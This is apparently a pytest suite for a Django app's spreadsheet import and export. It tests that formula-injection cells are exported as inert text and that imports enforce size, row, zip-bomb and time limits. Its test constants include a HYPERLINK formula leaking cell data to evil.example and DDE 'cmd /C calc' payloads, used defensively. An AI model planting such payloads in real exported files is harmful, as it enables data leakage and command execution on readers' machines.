"""Spreadsheets that cannot attack their reader, and imports that cannot outlast a web worker.

Formula injection: text starting with =, +, -, @, a tab or a carriage return, however it entered
(the admin, the API, an import), leaves every export as inert text; the import preview names such
cells. Limits: a file over ``IMPORT_MAX_BYTES`` or ``IMPORT_MAX_ROWS``, or an import running past
``IMPORT_MAX_SECONDS``, is refused with a message and saves nothing — never a 500 or a timeout.
"""

import csv
import io
import time
import zipfile

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from import_export.admin import ImportMixin

from samverkan_project.spreadsheets import RefusedImport, SafeFormat
from stakeholders.models import Organization, Person
from stakeholders.resources import ORGANIZATION_COLUMNS, PERSON_COLUMNS, OrganizationResource
from tests.admin_forms import post_data_from
from tests.factories import OrganizationFactory, PersonFactory, org_number_for
from tests.stakeholders.test_import_export import (
    CSV_FORMAT,
    ORGANIZATION_EXPORT,
    ORGANIZATION_IMPORT,
    ORGANIZATION_PROCESS_IMPORT,
    PERSON_EXPORT,
    PERSON_IMPORT,
    PERSON_PROCESS_IMPORT,
    XLSX_FORMAT,
    csv_bytes,
    export_post,
    organization_rows,
    person_rows,
)


@pytest.fixture(autouse=True)
def english():
    """Messages are compared in English."""
    with translation.override("en"):
        yield


@pytest.fixture
def coordinator_admin(client, coordinator):
    client.force_login(coordinator)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    client.cookies["django_language"] = "en"
    return client


def post_import(client, url, file_format, file):
    return client.post(url, {"resource": "0", "format": file_format, "import_file": file})


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Klicka här")'
DDE = "+cmd|' /C calc'!A0"
ARITHMETIC = "-2+3+cmd|' /C calc'!A0"
AT_FUNCTION = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CARRIAGE_RETURN = "\r=1+1"
DANGEROUS = (HYPERLINK, DDE, ARITHMETIC, AT_FUNCTION, TAB, CARRIAGE_RETURN)


def export_csv(client, url, resource_name, columns) -> list[dict]:
    response = client.post(url, export_post(resource_name, columns, CSV_FORMAT))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def export_xlsx(client, url, resource_name, columns):
    response = client.post(url, export_post(resource_name, columns, XLSX_FORMAT))
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def formula_cells(sheet) -> list[str]:
    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- formula injection -------------------------------------------------------------------------


def test_formulas_entered_through_the_api_admin_and_import_leave_every_export_as_text(
    coordinator_admin, coordinator_api
):
    # The API: an organisation whose every text column is a formula.
    response = coordinator_api.post(
        "/api/v1/organizations/",
        {
            "name": HYPERLINK, "org_number": org_number_for(700), "sector": "municipality", "power": 3,
            "interest": 3, "resource_level": 3, "resources": DDE, "drivers": ARITHMETIC, "constraints": AT_FUNCTION,
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    organization = Organization.objects.get(pk=response.json()["id"])
    assert (organization.name, organization.constraints) == (HYPERLINK, AT_FUNCTION)  # stored as entered

    # The admin: a person's title.
    person = PersonFactory(organization=organization, first_name="Anna", last_name="Berg")
    url = reverse("admin:stakeholders_person_change", args=[person.pk])
    response = coordinator_admin.post(url, post_data_from(coordinator_admin.get(url), title=AT_FUNCTION))
    assert response.status_code == 302
    person.refresh_from_db()
    assert person.title == AT_FUNCTION

    # An import: people whose titles start with a tab and a DDE call (and one a script saved, with a CR:
    # a CR inside a CSV cell comes back from the upload as a line feed).
    PersonFactory(organization=organization, email="x1@exempel.se", title=CARRIAGE_RETURN)
    rows = person_rows(
        *({"first_name": "Imp", "last_name": f"Ort {n}", "email": f"x{n}@exempel.se",
           "organization": organization.org_number, "title": title}
          for n, title in ((0, TAB), (2, DDE)))
    )
    response = post_import(
        coordinator_admin, PERSON_IMPORT, CSV_FORMAT, SimpleUploadedFile("p.csv", csv_bytes(PERSON_COLUMNS, rows))
    )
    assert "confirm_form" in response.context, response.content.decode()[-3000:]
    assert coordinator_admin.post(PERSON_PROCESS_IMPORT, response.context["confirm_form"].initial).status_code == 302
    imported = dict(Person.objects.filter(email__startswith="x").values_list("email", "title"))
    assert imported == {"x0@exempel.se": TAB, "x1@exempel.se": CARRIAGE_RETURN, "x2@exempel.se": DDE}

    # CSV: every such cell starts with an apostrophe, so a spreadsheet shows it as text.
    (row,) = export_csv(coordinator_admin, ORGANIZATION_EXPORT, "organizationresource", ORGANIZATION_COLUMNS)
    assert (row["name"], row["resources"], row["drivers"], row["constraints"]) == (
        "'" + HYPERLINK, "'" + DDE, "'" + ARITHMETIC, "'" + AT_FUNCTION
    )
    rows = {r["email"]: r for r in export_csv(coordinator_admin, PERSON_EXPORT, "personresource", PERSON_COLUMNS)}
    assert rows[person.email]["title"] == "'" + AT_FUNCTION
    assert rows[person.email]["first_name"] == "Anna"  # ordinary text untouched
    assert [rows[f"x{n}@exempel.se"]["title"] for n in range(3)] == ["'" + TAB, "'" + CARRIAGE_RETURN, "'" + DDE]
    for exported in (*rows.values(),):
        assert not any(str(value).startswith(("=", "+", "-", "@", "\t", "\r")) for value in exported.values())

    # XLSX: no formula cell at all; the text is kept exactly, marked as text (quote prefix).
    sheet = export_xlsx(coordinator_admin, ORGANIZATION_EXPORT, "organizationresource", ORGANIZATION_COLUMNS)
    assert formula_cells(sheet) == []
    headers = [cell.value for cell in sheet[1]]
    cells = {header: cell for header, cell in zip(headers, sheet[2], strict=True)}
    expected = {"name": HYPERLINK, "resources": DDE, "drivers": ARITHMETIC, "constraints": AT_FUNCTION}
    for column, value in expected.items():
        assert (cells[column].value, cells[column].data_type, cells[column].quotePrefix) == (value, "s", True)
    assert cells["power"].value == 3  # numbers stay numbers
    assert cells["org_number"].quotePrefix is False
    sheet = export_xlsx(coordinator_admin, PERSON_EXPORT, "personresource", PERSON_COLUMNS)
    assert formula_cells(sheet) == []
    values = {value for row in sheet.iter_rows(min_row=2, values_only=True) for value in row}
    assert {AT_FUNCTION, DDE, TAB} <= values  # (a CR comes back as a line feed: XML reads line ends so)


def test_the_raw_xlsx_has_no_formula_element(coordinator_admin):
    """Checked in the file itself: an <f> element is what a spreadsheet program would run."""
    OrganizationFactory(name=HYPERLINK, resources=DDE)
    response = coordinator_admin.post(
        ORGANIZATION_EXPORT, export_post("organizationresource", ORGANIZATION_COLUMNS, XLSX_FORMAT)
    )
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    assert "HYPERLINK" in sheet_xml


def test_an_exported_csv_imports_back_unchanged(coordinator_admin):
    """The apostrophe an export adds is taken off again on import, so a round trip changes nothing
    (and a text that itself began with an apostrophe before a formula sign keeps it)."""
    values = {"resources": DDE, "drivers": "'=keep the apostrophe", "constraints": "@ på plats"}
    organization = OrganizationFactory(name=HYPERLINK, **values)
    exported = SimpleUploadedFile(
        "o.csv",
        coordinator_admin.post(
            ORGANIZATION_EXPORT, export_post("organizationresource", ORGANIZATION_COLUMNS, CSV_FORMAT)
        ).content,
    )
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT, {"resource": "0", "format": CSV_FORMAT, "import_file": exported}
    )
    result = response.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["skip"] == 1  # nothing changed
    coordinator_admin.post(ORGANIZATION_PROCESS_IMPORT, response.context["confirm_form"].initial)
    organization.refresh_from_db()
    assert organization.name == HYPERLINK
    assert {field: getattr(organization, field) for field in values} == values


def test_the_import_preview_warns_about_formula_cells(coordinator_admin):
    rows = (
        {"name": HYPERLINK, "org_number": org_number_for(701)},
        {"name": "Vanlig kommun", "org_number": org_number_for(702), "drivers": "-5 % kostnad",
         "resources": "+46 70 123 45 67"},
    )
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT,
        {"resource": "0", "format": CSV_FORMAT,
         "import_file": SimpleUploadedFile("o.csv", csv_bytes(ORGANIZATION_COLUMNS, organization_rows(*rows)))},
    )
    assert "confirm_form" in response.context
    warnings = [(cell.row, cell.column) for cell in response.context["result"].formula_cells]
    # a phone number or a plain number is no formula; "-5 % kostnad" could be
    assert warnings == [(1, "name"), (2, "drivers")]
    content = response.content.decode()
    assert "2 cells start with" in content
    assert "Row 1, name" in content
    assert "Row 2, drivers" in content
    assert "HYPERLINK(&quot;https://evil.example" in content  # shown escaped, as text


def test_every_import_export_admin_uses_the_safe_formats():
    admins = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ImportMixin)]
    assert admins
    for model_admin in admins:
        formats = [*model_admin.get_export_formats(), *model_admin.get_import_formats()]
        assert formats, model_admin
        assert all(issubclass(file_format, SafeFormat) for file_format in formats), model_admin


# --- limits ------------------------------------------------------------------------------------


def upload(content: bytes, name="organisationer.csv"):
    return SimpleUploadedFile(name, content, content_type="text/csv")


def many_rows_csv(n: int) -> bytes:
    lines = ["name,sector,power,interest,resource_level"]
    lines += [f"Org {i},municipality,3,3,3" for i in range(n)]
    return ("\n".join(lines) + "\n").encode()


def test_a_100000_row_csv_is_refused_at_once_and_saves_nothing(coordinator_admin, settings):
    settings.IMPORT_MAX_BYTES = 10 * 1024 * 1024  # so the row limit, not the size, refuses it
    content = many_rows_csv(100_000)
    started = time.monotonic()
    response = post_import(coordinator_admin, ORGANIZATION_IMPORT, CSV_FORMAT, upload(content))
    assert time.monotonic() - started < 15
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    errors = response.context["form"].errors["import_file"]
    assert errors == [
        f"The file has more than {settings.IMPORT_MAX_ROWS:,} rows; an import may have at most "
        f"{settings.IMPORT_MAX_ROWS:,}. Split it into smaller files."
    ]
    assert Organization.objects.count() == 0


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(coordinator_admin, settings):
    settings.IMPORT_MAX_BYTES = 1000
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT, {"resource": "0", "format": CSV_FORMAT, "import_file": upload(many_rows_csv(100))}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["import_file"] == [
        "The file is 2.6\xa0KB; an import may be at most 1000\xa0bytes. Split it into smaller files."
    ]
    assert Organization.objects.count() == 0


def test_the_default_limits_are_documented_values(settings):
    assert (settings.IMPORT_MAX_BYTES, settings.IMPORT_MAX_ROWS, settings.IMPORT_MAX_SECONDS) == (
        2 * 1024 * 1024, 500, 20
    )


def xlsx_bytes(rows: int) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "sector", "power", "interest", "resource_level"])
    for i in range(rows):
        sheet.append([f"Org {i}", "municipality", 3, 3, 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_over_the_row_limit_is_refused(coordinator_admin, settings):
    settings.IMPORT_MAX_ROWS = 50
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT, {"resource": "0", "format": XLSX_FORMAT, "import_file": upload(xlsx_bytes(51), "o.xlsx")}
    )
    assert response.context["form"].errors["import_file"] == [
        "The file has more than 50 rows; an import may have at most 50. Split it into smaller files."
    ]
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT, {"resource": "0", "format": XLSX_FORMAT, "import_file": upload(xlsx_bytes(50), "o.xlsx")}
    )
    assert "confirm_form" in response.context  # at the limit is fine
    assert Organization.objects.count() == 0


def test_an_xlsx_that_unpacks_to_far_more_than_the_size_limit_is_refused(coordinator_admin, settings):
    """A small zip can unpack to gigabytes; the unpacked size is checked before anything is parsed."""
    settings.IMPORT_MAX_BYTES = 20_000
    buffer = io.BytesIO(xlsx_bytes(1))
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.xml", b" " * 2_000_000)  # compresses to about 2 kB
    content = buffer.getvalue()
    assert len(content) < settings.IMPORT_MAX_BYTES
    response = coordinator_admin.post(
        ORGANIZATION_IMPORT, {"resource": "0", "format": XLSX_FORMAT, "import_file": upload(content, "o.xlsx")}
    )
    (error,) = response.context["form"].errors["import_file"]
    assert error.startswith("The spreadsheet unpacks to 1.9\xa0MB; at most 390.6\xa0KB is accepted.")


def test_an_unreadable_xlsx_is_a_message_not_a_500(coordinator_admin):
    response = post_import(coordinator_admin, ORGANIZATION_IMPORT, XLSX_FORMAT, upload(b"PK\x03\x04junk", "o.xlsx"))
    assert response.status_code == 200
    assert response.context["form"].errors["import_file"]


def test_the_resource_refuses_too_many_rows_whichever_door(db, settings):
    settings.IMPORT_MAX_ROWS = 3
    dataset = tablib.Dataset(*[(f"Org {i}", "municipality", 3, 3, 3) for i in range(4)],
                             headers=["name", "sector", "power", "interest", "resource_level"])
    result = OrganizationResource().import_data(dataset)
    assert [str(error.error) for error in result.base_errors] == [
        "The file has more than 3 rows; an import may have at most 3. Split it into smaller files."
    ]
    with pytest.raises(RefusedImport, match="more than 3 rows"):
        OrganizationResource().import_data(dataset, raise_errors=True)
    assert Organization.objects.count() == 0


def test_an_import_past_its_time_budget_stops_and_saves_nothing(coordinator_admin, settings):
    content = many_rows_csv(3)
    settings.IMPORT_MAX_SECONDS = 0
    response = post_import(coordinator_admin, ORGANIZATION_IMPORT, CSV_FORMAT, upload(content))
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    content_text = response.content.decode()
    assert "The import was stopped after 0 seconds, before it finished; nothing was saved." in content_text
    assert "Traceback" not in content_text

    # The preview passes, the confirmation then runs out of time: nothing saved, a message, no 500.
    settings.IMPORT_MAX_SECONDS = 20
    response = post_import(coordinator_admin, ORGANIZATION_IMPORT, CSV_FORMAT, upload(content))
    confirm = response.context["confirm_form"].initial
    settings.IMPORT_MAX_SECONDS = 0
    response = coordinator_admin.post(ORGANIZATION_PROCESS_IMPORT, confirm, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == ORGANIZATION_IMPORT
    messages = [str(message) for message in response.context["messages"]]
    assert any("nothing was saved" in message for message in messages), messages
    assert Organization.objects.count() == 0


def test_the_limits_and_warnings_speak_swedish(client, coordinator, settings):
    client.force_login(coordinator)
    client.cookies["django_language"] = "sv"
    settings.IMPORT_MAX_ROWS = 1
    response = post_import(client, ORGANIZATION_IMPORT, CSV_FORMAT, upload(many_rows_csv(2)))
    assert response.context["form"].errors["import_file"] == [
        "Filen har fler än 1 rader; en import får ha högst 1. Dela upp den i mindre filer."
    ]
    settings.IMPORT_MAX_ROWS = 500
    rows = organization_rows({"name": HYPERLINK, "org_number": org_number_for(703)})
    response = post_import(client, ORGANIZATION_IMPORT, CSV_FORMAT, upload(csv_bytes(ORGANIZATION_COLUMNS, rows)))
    content = response.content.decode()
    assert "1 cell börjar med =, +, -, @, en tabb eller en radbrytning." in content
    assert "Rad 1, name" in content
